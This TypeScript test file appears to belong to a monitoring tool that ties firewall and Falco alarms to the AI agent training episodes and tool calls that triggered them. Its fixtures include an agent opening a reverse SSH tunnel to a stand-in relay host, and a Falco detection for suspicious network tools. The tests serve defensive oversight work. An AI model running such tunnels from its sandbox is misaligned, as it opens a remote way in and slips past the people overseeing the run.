import { expect, it } from "vitest";
import { incidentsOf } from "../../src/incidents.ts";
import { actsOf } from "../../src/outside/acts.ts";
import { importAlarms } from "../../src/outside/import.ts";
import { landAlarms } from "../../src/outside/landing.ts";
import { alarmLineOf } from "../../src/outside/ledger.ts";
import {
  beginOf,
  entriesOf,
  logText,
  program,
  seen,
  T0,
  type Timed,
  tunnelEpisode,
  turnOf,
} from "../recorded.ts";

/**
 * The paper's story: a training run in which nothing inside rang, a firewall on the way out whose clock is 3.7 s ahead, and the question
 * which of many episodes it was. The firewall sees the host's address; only what the gateway recorded of the dialled connection tells them apart.
 */

const SKEW_MS = 3_700;
const FIREWALL_HEAD = "start,srcaddr,srcport,dstaddr,dstport,protocol,action";

/** An episode that fetches from an allowed host in chunk 0, and in chunk 1 does something else through a host that is allowed too. */
function episode(
  n: number,
  second: { readonly command: string; readonly ip: string; readonly port: number },
) {
  const id = `ep_${String(n).padStart(2, "0")}`;
  const startMs = T0 + n * 1_300;
  const fetch = turnOf(0, "curl -O https://files.example/a.tar", "");
  const other = turnOf(1, second.command, "");
  const flow = (chunk: number, at: number, command: string, ip: string, port: number, sourcePort: number) =>
    seen(chunk, {
      at: at + 400,
      kind: "net.flow",
      source: "proxy",
      chunk,
      callId: `call_${chunk}`,
      process: program(5_000 + 10 * n + chunk, at - 5, command),
      net: {
        flow: `${id}-${chunk}`,
        protocol: "tcp",
        host: chunk === 0 ? "files.example" : "relay.example",
        port,
        sourcePort: 33_000,
        upstream: { ip, port, sourceIp: "192.0.2.10", sourcePort },
        bytesUp: 1_200,
        bytesDown: 90_000,
        durationMs: 400,
      },
    });
  const timed: Timed[] = [
    [0, beginOf(id, startMs)],
    [500, fetch.says],
    [501, fetch.calls],
    [1_001, flow(0, startMs + 600, "curl", "203.0.113.80", 443, 50_000 + n)],
    [1_010, fetch.sees],
    [5_000, other.says],
    [5_001, other.calls],
    [5_501, flow(1, startMs + 5_100, second.command, second.ip, second.port, 51_000 + n)],
    [5_510, other.sees],
  ];
  return { id, entries: entriesOf(logText(startMs, timed)), startMs };
}

const harmless = { command: "pip download x", ip: "203.0.113.81", port: 443 };
const tunnel = { command: "ssh -R 2222:localhost:22 relay.example", ip: "198.51.100.7", port: 443 };
const episodes = Array.from({ length: 20 }, (_, n) => episode(n, n === 4 || n === 13 ? tunnel : harmless));

const seconds = (ms: number): string => (ms / 1_000).toFixed(3);
const denied = (ms: number, sourcePort: number | "-", ip: string): string =>
  `${seconds(ms + SKEW_MS)},192.0.2.10,${sourcePort},${ip},443,6,REJECT`;
const at = (n: number): number => episodes[n]!.startMs + 5_100;

const CSV = [
  FIREWALL_HEAD,
  denied(at(4) + 20, 51_004, "198.51.100.7"),
  denied(at(13) + 35, 51_013, "198.51.100.7"),
  // Harmless traffic that it logs as well, and what was none of ours.
  `${seconds(at(2) + SKEW_MS)},192.0.2.10,51002,203.0.113.81,443,6,ACCEPT`,
  denied(at(8) + 70_000, 61_000, "192.0.2.99"),
  // Without a source port: two episodes were in the middle of the same thing.
  denied(at(5) + 650, "-", "203.0.113.81"),
].join("\n");

const acts = episodes.flatMap(({ id, entries }) => actsOf(id, entries));
const { alarms, skipped, faults } = importAlarms(CSV, "fw.csv", { format: "flow-log" });
const { clocks, landings } = landAlarms(alarms, acts);
const lines = landings.map(alarmLineOf);
const logged = lines.map((line, seq) => ({ seq, hash: String(seq).repeat(64).slice(0, 64), line }));

it("is read whole, but for what was let through", () => {
  expect({ alarms: alarms.length, skipped, faults }).toEqual({ alarms: 4, skipped: 1, faults: [] });
});

it("sets the clocks by each other", () => {
  expect(clocks).toMatchObject([{ support: expect.any(Number) }]);
  expect(Math.abs(clocks[0]!.offsetMs - SKEW_MS)).toBeLessThan(500);
});

it("lands each alarm on the episode and chunk that dialled, by the port that the gateway dialled from", () => {
  expect(lines.slice(0, 2)).toMatchObject([
    { status: "matched", places: [{ episode: "ep_04", chunk: 1, callId: "call_1", flow: "ep_04-1" }] },
    { status: "matched", places: [{ episode: "ep_13", chunk: 1, callId: "call_1", flow: "ep_13-1" }] },
  ]);
  for (const { places } of lines.slice(0, 2)) expect(places[0]!.confidence).toBeGreaterThan(0.9);
});

it("pins nothing on anybody for a place that none of them dialled", () => {
  expect(lines[2]).toMatchObject({ status: "unmatched", places: [], unexplained: 1 });
});

it("names who else it could have been, where the firewall does not say enough", () => {
  const [line] = lines.slice(3);
  expect(
    line!.places
      .slice(0, 2)
      .map(({ episode }) => episode)
      .sort(),
  ).toEqual(["ep_05", "ep_06"]);
  expect(line!.status).toBe("ambiguous");
});

it("makes an incident where the log itself had raised no alert", () => {
  const [incident, ...others] = incidentsOf(episodes[4]!.entries, logged);
  expect(others).toEqual([]);
  expect(incident).toMatchObject({
    chunk: 1,
    rule: "outside",
    delayMs: null,
    call: { arguments: { command: tunnel.command } },
    alarms: [{ id: "fw.csv:2", skewMs: lines[0]!.skewMs, rivals: [] }],
    flows: [{ upstream: "198.51.100.7:443", bytesUp: 1_200 }],
    processes: [{ depth: 0 }, { command: tunnel.command, alerted: true }],
  });
  expect(incident!.id).toMatch(/^inc_/);
});

it("accuses nobody of what could have been another", () => {
  expect(incidentsOf(episodes[5]!.entries, logged)).toEqual([]);
  expect(incidentsOf(episodes[6]!.entries, logged)).toEqual([]);
});

it("is nobody's chunk where the connection was made before the agent began", () => {
  const at = T0 + 300_000;
  const setUp = seen(0, {
    at,
    kind: "net.flow",
    source: "proxy",
    net: {
      flow: "i1",
      protocol: "tcp",
      host: "pypi.example",
      port: 443,
      upstream: { ip: "203.0.113.90", port: 443, sourcePort: 52_000 },
    },
  });
  const entries = entriesOf(
    logText(T0 + 299_000, [
      [0, beginOf("ep_install", T0 + 299_000)],
      [1_000, { ...setUp, chunk: null } as typeof setUp],
    ]),
  );
  const alarm = importAlarms(
    `${FIREWALL_HEAD}\n${denied(at - SKEW_MS, 52_000, "203.0.113.90")}`,
    "fw.csv",
  ).alarms;
  const landed = landAlarms(alarm, actsOf("ep_install", entries));
  const line = alarmLineOf(landed.landings[0]!);
  expect(line).toMatchObject({ status: "matched", places: [{ episode: "ep_install", chunk: null }] });
  expect(incidentsOf(entries, [{ seq: 0, hash: "0".repeat(64), line }])).toEqual([]);
});

it("finds the call that started what a host's monitor saw, and puts both into one incident", () => {
  const log = entriesOf(logText(T0, tunnelEpisode()));
  const falco = {
    hostname: "node-3",
    priority: "Warning",
    rule: "Launch Suspicious Network Tool in Container",
    output_fields: {
      "container.name": "ale-sb_1",
      "evt.time": (T0 + 2_003) * 1e6,
      "proc.cmdline": "ssh -fN -R 2222:localhost:22 root@198.51.100.7",
      "proc.name": "ssh",
    },
    time: new Date(T0 + 2_003).toISOString(),
  };
  const { alarms } = importAlarms(JSON.stringify(falco), "falco.jsonl");
  const [landing] = landAlarms(alarms, actsOf("ep_night", log)).landings;
  const line = alarmLineOf(landing!);
  expect(line).toMatchObject({ status: "matched", places: [{ chunk: 1, callId: "call_1" }] });
  const incidents = incidentsOf(log, [{ seq: 0, hash: "0".repeat(64), line }]);
  expect(incidents).toHaveLength(2);
  expect(incidents[0]).toMatchObject({ rule: "tunnel-ssh", alarms: [{ title: falco.rule }] });
});
